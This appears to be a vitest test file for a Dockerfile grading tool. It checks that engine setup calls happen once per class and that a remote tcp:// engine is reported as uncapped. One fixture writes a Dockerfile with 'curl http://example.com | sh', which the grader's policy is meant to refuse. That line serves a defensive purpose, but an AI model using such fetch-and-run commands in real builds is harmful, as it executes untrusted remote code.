// The engine pool prepares each engine once for the whole class, not once per student.
import type Docker from 'dockerode';
import { spawn } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { connect as netConnect, createServer, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { gradeBatch } from '../../graders/class/batch';
import { connect } from '../../graders/engine/connect';
import { fastLab, LAB_DIR, ROOT } from '../support/helpers';

/** The engine, with a count of each top-level call made on it. */
function counting(docker: Docker): { docker: Docker; calls: Map<string, number> } {
  const calls = new Map<string, number>();
  const proxy = new Proxy(docker, {
    get(target, prop, receiver) {
      const v = Reflect.get(target, prop, receiver);
      if (typeof v !== 'function' || typeof prop !== 'string') return v;
      return (...args: unknown[]) => {
        calls.set(prop, (calls.get(prop) ?? 0) + 1);
        return v.apply(target, args);
      };
    },
  });
  return { docker: proxy, calls };
}

describe('the engine pool', () => {
  it('asks the engine for its version and info once for a class of six, not once per student', async () => {
    const tmp = mkdtempSync(join(tmpdir(), 'drydock-pool-'));
    try {
      const dir = join(tmp, 'class');
      // Students that end before any build (empty folders, a Dockerfile the policy refuses): the setup is all the engine work.
      for (const id of ['a', 'b', 'c']) mkdirSync(join(dir, id), { recursive: true });
      for (const id of ['d', 'e', 'f']) {
        mkdirSync(join(dir, id), { recursive: true });
        writeFileSync(join(dir, id, 'Dockerfile'), 'FROM ubuntu:latest\nRUN curl http://example.com | sh\n');
      }
      const { docker, calls } = counting(connect());
      const r = await gradeBatch(fastLab(), dir, join(tmp, 'out'), { docker, jobs: 2 });
      expect(r.outcomes.map((o) => o.status)).toEqual(['failed', 'failed', 'failed', 'failed', 'failed', 'failed']);
      expect(calls.get('version')).toBe(1);
      expect(calls.get('info')).toBe(1);
      // Every student still names the engine it was graded on.
      for (const o of r.outcomes) expect(o.report!.engine.version).not.toBe('unknown');
      // All of the setup (base images included) is once per class: one student of each kind asks the engine the same.
      const few = join(tmp, 'few');
      for (const id of ['a', 'd']) cpSync(join(dir, id), join(few, id), { recursive: true });
      const one = counting(connect());
      await gradeBatch(fastLab(), few, join(tmp, 'few-out'), { docker: one.docker, jobs: 2 });
      // (The list* calls are each student's own: the sweep of its run's objects when its grading ends.)
      const setup = (m: Map<string, number>) => ({ version: m.get('version'), info: m.get('info'), getImage: m.get('getImage') });
      expect(setup(calls)).toEqual(setup(one.calls));
      expect(calls.get('getImage')).toBeGreaterThan(0);
    } finally {
      rmSync(tmp, { recursive: true, force: true });
    }
  });

  it('with one --engine tcp:// URL, caps nothing on this machine and says the builds ran uncapped', async () => {
    // The engine under test reached through a TCP port of this machine: a tcp:// engine the grader cannot take for local.
    const socket = (process.env.DOCKER_HOST ?? '').replace(/^unix:\/\//, '');
    const proxy = createServer((c) => {
      const u = netConnect(socket);
      c.pipe(u).pipe(c);
      c.on('error', () => u.destroy());
      u.on('error', () => c.destroy());
    });
    await new Promise<void>((r) => proxy.listen(0, '127.0.0.1', r));
    const dir = mkdtempSync(join(tmpdir(), 'drydock-pool-tcp-'));
    const out = mkdtempSync(join(tmpdir(), 'drydock-pool-tcp-out-'));
    try {
      for (const id of ['a', 'b']) mkdirSync(join(dir, id));
      const url = `tcp://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
      // Spawned, not spawnSync: the proxy lives in this process's event loop.
      const code = await new Promise<number | null>((done) => {
        const p = spawn(process.execPath, [join(ROOT, 'bin/drydock.mjs'), 'grade', LAB_DIR, '--batch', dir, '--out', out, '--engine', url, '-q'], { cwd: ROOT, env: { ...process.env, DOCKER_HOST: '', FORCE_COLOR: '0' }, stdio: 'ignore' });
        p.on('exit', done);
      });
      expect(code).toBe(0); // every student graded or failed, none an infrastructure error
      expect(readFileSync(join(out, 'summary.html'), 'utf8')).toContain(`build steps ran without a process or memory cap: the engine at ${url} is not on this machine`);
    } finally {
      proxy.close();
      rmSync(dir, { recursive: true, force: true });
      rmSync(out, { recursive: true, force: true });
    }
  });
});
